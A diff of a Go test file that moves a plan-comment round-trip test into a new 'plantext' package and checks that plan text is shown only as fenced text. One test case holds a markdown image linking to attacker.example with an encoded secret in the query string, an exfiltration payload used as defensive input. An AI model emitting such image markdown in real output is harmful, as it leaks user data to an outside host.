@@ -1,22 +1,14 @@
-package workitem
+package plantext
 
 import (
 	"strings"
 	"testing"
-	"time"
-
-	"github.com/bumperdev/bumper/app/ledger"
 )
 
 // TestPlanComment: whatever the plan run wrote comes back exactly from the comment,
 // shown as text: no image, link or markup of it is rendered.
 func TestPlanComment(t *testing.T) {
-	sealer, err := ledger.NewSealer([]byte("0123456789abcdef0123456789abcdef"))
-	if err != nil {
-		t.Fatal(err)
-	}
-	s := &Service{opts: Options{Sealer: sealer}, now: time.Now}
-	rec := &ledger.Record{SpecRevision: ledger.SpecRevision("t", "b")}
+	const id = "0123456789ab"
 	tests := []struct{ name, plan string }{
 		{"plain", "1. Edit widgets.sh.\n2. Run the tests."},
 		{"an exfiltrating image", "![diagram](https://attacker.example/p.png?d=c2VjcmV0)"},
@@ -28,11 +20,10 @@ func TestPlanComment(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			rec.PlanRevision = ledger.ContentRevision([]byte(tt.plan))
-			body := s.planComment(rec, tt.plan)
-			got, ok := parsePlan(body)
+			body := Comment(id, tt.plan)
+			got, ok := Parse(body)
 			if !ok || got != tt.plan {
-				t.Fatalf("parsePlan = %q, %v; want %q\n%s", got, ok, tt.plan, body)
+				t.Fatalf("Parse = %q, %v; want %q\n%s", got, ok, tt.plan, body)
 			}
 			// Everything after the marker line and before the notice is either our own
 			// text or inside the fence.
@@ -43,9 +34,9 @@ func TestPlanComment(t *testing.T) {
 		})
 	}
 	t.Run("an edited comment does not parse as the plan", func(t *testing.T) {
-		body := s.planComment(rec, "plan")
+		body := Comment(id, "plan")
 		for _, bad := range []string{strings.Replace(body, planIntro, "Here:", 1), strings.Replace(body, "```\nplan\n```", "```\nplan", 1), "not a plan"} {
-			if p, ok := parsePlan(bad); ok && p == "plan" {
+			if p, ok := Parse(bad); ok && p == "plan" {
 				t.Fatalf("an edited comment parsed: %q", bad)
 			}
 		}
